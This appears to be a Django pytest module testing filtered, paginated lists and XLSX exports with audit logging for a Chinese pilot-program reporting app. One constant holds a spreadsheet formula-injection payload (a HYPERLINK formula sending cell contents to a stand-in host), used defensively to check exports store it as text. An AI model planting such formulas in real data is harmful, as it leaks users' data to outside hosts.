"""Lists that scale, over the whole demo: filters narrow them, pages hold 50 rows, queries do not grow with pages."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from shidian.regions.models import Province
from shidian.reporting.models import ProvinceReport, ProvinceStatus

# The whole demo, loaded once for this module (src/shidian/conftest.py).
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("demo_world")]


def rows(html: str, testid: str) -> int:
    table = html.split(f'data-testid="{testid}"', 1)[1].split("</table>", 1)[0]
    return len(re.findall(r"<tr>", table.split("<tbody>", 1)[1]))


def test_national_inbox_filters_and_pages(
    client_as: Callable[[str], Client], django_assert_max_num_queries: Callable[..., Any]
) -> None:
    client = client_as("demo-national")
    sent = ProvinceReport.objects.exclude(status=ProvinceStatus.DRAFT)
    assert sent.count() > 50  # the inbox needs pages
    with django_assert_max_num_queries(14):
        first = client.get(reverse("reporting:home")).content.decode()
    assert rows(first, "national-inbox") == 50 and 'data-testid="pager"' in first
    assert f"共 {sent.count()} 条" in first
    with django_assert_max_num_queries(14):  # the last page costs what the first costs
        last = client.get(reverse("reporting:home"), {"inbox_page": 99}).content.decode()
    assert rows(last, "national-inbox") == (sent.count() - 1) % 50 + 1
    guangxi = Province.objects.get(name="广西壮族自治区")
    wanted = sent.filter(province=guangxi, status=ProvinceStatus.ACKNOWLEDGED)
    filtered = client.get(
        reverse("reporting:home"), {"inbox-province": str(guangxi.pk), "inbox-status": "acknowledged"}
    ).content.decode()
    assert rows(filtered, "national-inbox") == wanted.count() > 0
    body = filtered.split('data-testid="national-inbox"', 1)[1].split("<tbody>", 1)[1].split("</table>", 1)[0]
    assert "北京市" not in body and "已报送" not in body


def test_province_review_queue_filters_by_batch(client_as: Callable[[str], Client]) -> None:
    client = client_as("demo-province")
    page = client.get(reverse("reporting:home")).content.decode()
    assert 'data-testid="awaiting-filters"' in page
    everything = rows(page, "awaiting")
    batch_one = rows(client.get(reverse("reporting:home"), {"awaiting-batch": 1}).content.decode(), "awaiting")
    assert batch_one <= everything


def test_plan_lists_filter_by_province_batch_and_status(
    client_as: Callable[[str], Client], django_assert_max_num_queries: Callable[..., Any]
) -> None:
    from shidian.pilots.models import PilotArea

    client = client_as("demo-national")
    with django_assert_max_num_queries(18):
        first = client.get(reverse("plans:national")).content.decode()
    assert rows(first, "national-rows") == 50 and f"共 {PilotArea.objects.count()} 条" in first
    with django_assert_max_num_queries(18):
        client.get(reverse("plans:national"), {"page": 2})
    guangxi = Province.objects.get(name="广西壮族自治区")
    in_guangxi = client.get(reverse("plans:national"), {"province": str(guangxi.pk)}).content.decode()
    assert rows(in_guangxi, "national-rows") == PilotArea.objects.filter(province=guangxi).count()
    without_plan = client.get(reverse("plans:national"), {"status": "none", "batch": "1"}).content.decode()
    table = without_plan.split('data-testid="national-rows"', 1)[1].split("</table>", 1)[0]
    assert "已批准" not in table and "第二批" not in table
    province_page = client_as("demo-province").get(reverse("plans:province"), {"status": "approved"})
    html = province_page.content.decode()
    assert 'name="province"' not in html  # a province filters its own pilots only
    assert "未编制" not in html.split('data-testid="province-progress"', 1)[1].split("</table>", 1)[0]


def test_off_track_list_carries_units_and_filters(
    client_as: Callable[[str], Client], django_assert_max_num_queries: Callable[..., Any]
) -> None:
    client = client_as("demo-national")
    with django_assert_max_num_queries(16):
        first = client.get(reverse("indicators:off_track")).content.decode()
    assert 'data-testid="off-track-filters"' in first
    table = first.split('data-testid="off-track"', 1)[1].split("</table>", 1)[0]
    assert rows(first, "off-track") <= 50
    assert re.search(r"<td>[\d.]+(%|万人|元|平方米|人)</td>", table), "value columns carry units"
    assert not re.search(r"\d+\.\d{4,}", table)
    behind = client.get(reverse("indicators:off_track"), {"status": "deteriorating"}).content.decode()
    table = behind.split('data-testid="off-track"', 1)[1].split("</table>", 1)[0]
    assert "明显滞后" not in table


def test_the_filtered_off_track_list_exports_every_row_to_xlsx_and_is_audited(
    client_as: Callable[[str], Client],
) -> None:
    import io

    from openpyxl import load_workbook

    from shidian.accounts.models import User
    from shidian.core.audit_actions import AuditAction
    from shidian.core.models import AuditEvent
    from shidian.indicators import selectors

    client = client_as("demo-national")
    page = client.get(reverse("indicators:off_track"), {"status": "deteriorating"}).content.decode()
    assert "format=xlsx" in page and "status=deteriorating" in page  # the link keeps the filters
    filtered = client.get(reverse("indicators:off_track"), {"status": "deteriorating", "format": "xlsx"})
    deteriorating = load_workbook(io.BytesIO(filtered.content))["进度滞后的试点"]
    assert {deteriorating.cell(row=n, column=8).value for n in range(2, deteriorating.max_row + 1)} == {"倒退"}
    response = client.get(reverse("indicators:off_track"), {"format": "xlsx"})
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    sheet = load_workbook(io.BytesIO(response.content))["进度滞后的试点"]
    assert [c.value for c in sheet[1]][:5] == ["省级单位", "试点地区", "指标", "单位", "最新值"]
    assert sheet.freeze_panes == "A2"
    national = User.objects.get(username="demo-national")
    expected = selectors.off_track(user=national)
    assert sheet.max_row - 1 == len(expected) > 50  # every row, not the first page
    values = [sheet.cell(row=n, column=5).value for n in range(2, sheet.max_row + 1)]
    assert all(isinstance(v, str) and not re.search(r"\d+\.\d{4,}", v) for v in values)  # the indicator's decimals
    event = AuditEvent.objects.filter(action=AuditAction.OFF_TRACK_EXPORTED).latest("pk")
    assert event.actor == national and event.detail["rows"] == len(expected)


FORMULA = '=HYPERLINK("http://example.invalid/?d="&A2,"点此查看详情")'


def _sheet(response: Any, title: str) -> Any:
    import io

    from openpyxl import load_workbook

    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    return load_workbook(io.BytesIO(response.content))[title]


def _column(sheet: Any, number: int) -> list[Any]:
    return [sheet.cell(row=n, column=number).value for n in range(2, sheet.max_row + 1)]


def test_the_filtered_national_inbox_exports_every_row_to_xlsx_and_is_audited(
    client_as: Callable[[str], Client], django_assert_max_num_queries: Callable[..., Any]
) -> None:
    import datetime as dt

    from shidian.core.audit_actions import AuditAction
    from shidian.core.models import AuditEvent

    client = client_as("demo-national")
    guangxi = Province.objects.get(name="广西壮族自治区")
    filters = {"inbox-province": str(guangxi.pk), "inbox-status": "acknowledged"}
    page = client.get(reverse("reporting:home"), filters).content.decode()
    assert f'href="{reverse("reporting:inbox_xlsx")}?inbox-province={guangxi.pk}&amp;inbox-status=acknowledged' in page
    sent = ProvinceReport.objects.exclude(status=ProvinceStatus.DRAFT)
    with django_assert_max_num_queries(16):  # one query for the rows, whatever their number (audit included)
        everything = _sheet(client.get(reverse("reporting:inbox_xlsx")), "省级报告收件箱")
    assert [c.value for c in everything[1]] == [
        "省级单位", "报告轮次", "报告期间", "省级报送期限", "最近报送时间", "版本数", "状态"
    ]  # fmt: skip
    assert everything.freeze_panes == "A2"
    assert everything.max_row - 1 == sent.count() > 50  # every row, not the first page
    assert set(_column(everything, 3)) <= {f"{y}年{h}" for y in range(2016, 2021) for h in ("度", "上半年")}
    due = everything.cell(row=2, column=4)
    assert isinstance(due.value, dt.datetime | dt.date) and "年" in due.number_format
    assert all(re.fullmatch(r"\d{4}年\d{1,2}月\d{1,2}日 \d\d:\d\d", v) for v in _column(everything, 5))

    filtered = _sheet(client.get(reverse("reporting:inbox_xlsx"), filters), "省级报告收件箱")
    wanted = sent.filter(province=guangxi, status=ProvinceStatus.ACKNOWLEDGED)
    assert filtered.max_row - 1 == wanted.count() > 0
    assert set(_column(filtered, 1)) == {"广西壮族自治区"}
    assert set(_column(filtered, 7)) == {str(ProvinceStatus.ACKNOWLEDGED.label)}
    event = AuditEvent.objects.filter(action=AuditAction.INBOX_EXPORTED).latest("pk")
    assert event.actor is not None and event.actor.username == "demo-national"
    assert event.detail["rows"] == wanted.count()
    assert event.detail["filters"] == {"province": "广西壮族自治区", "status": "已确认"}  # as the auditor reads them
    assert client_as("demo-province").get(reverse("reporting:inbox_xlsx")).status_code == 404


def test_the_filtered_plans_lists_export_every_row_to_xlsx_and_are_audited(
    client_as: Callable[[str], Client],
) -> None:
    from shidian.core.audit_actions import AuditAction
    from shidian.core.models import AuditEvent
    from shidian.pilots.models import PilotArea

    liuzhou = PilotArea.objects.get(name="柳州市")
    PilotArea.objects.filter(pk=liuzhou.pk).update(name=FORMULA)  # text a spreadsheet must not run
    client = client_as("demo-national")
    page = client.get(reverse("plans:national"), {"batch": "1"}).content.decode()
    assert "batch=1&amp;format=xlsx" in page  # the link keeps the filters
    everything = _sheet(client.get(reverse("plans:national"), {"format": "xlsx"}), "工作方案进展")
    assert [c.value for c in everything[1]][:5] == ["省级单位", "试点地区", "批次", "现行方案", "待处理版本"]
    assert everything.freeze_panes == "A2"
    assert everything.max_row - 1 == PilotArea.objects.count() > 50  # every row, not the first page
    progress = [v for v in _column(everything, 10) if v is not None]
    assert progress and all(isinstance(v, int | float) and 0 <= v <= 100 for v in progress)
    assert set(_column(everything, 4)) - {"未编制"} <= {
        v for v in _column(everything, 4) if v and re.fullmatch(r"第\d+版 · \S+", v)
    }
    formula_cells = [c for c in everything["B"] if c.value == FORMULA]
    assert formula_cells and all(c.data_type == "s" for c in formula_cells)  # a string, never a formula

    batch_one = _sheet(client.get(reverse("plans:national"), {"batch": "1", "format": "xlsx"}), "工作方案进展")
    assert batch_one.max_row - 1 == PilotArea.objects.filter(batch__number=1).count()
    assert set(_column(batch_one, 3)) == {"第一批"}
    event = AuditEvent.objects.filter(action=AuditAction.PLAN_LIST_EXPORTED).latest("pk")
    assert event.detail == {"format": "xlsx", "rows": batch_one.max_row - 1, "filters": {"batch": "第一批"}}

    province = _sheet(client_as("demo-province").get(reverse("plans:province"), {"format": "xlsx"}), "工作方案进展")
    assert set(_column(province, 1)) == {"广西壮族自治区"}
    assert province.max_row - 1 == PilotArea.objects.filter(province__name="广西壮族自治区").count()
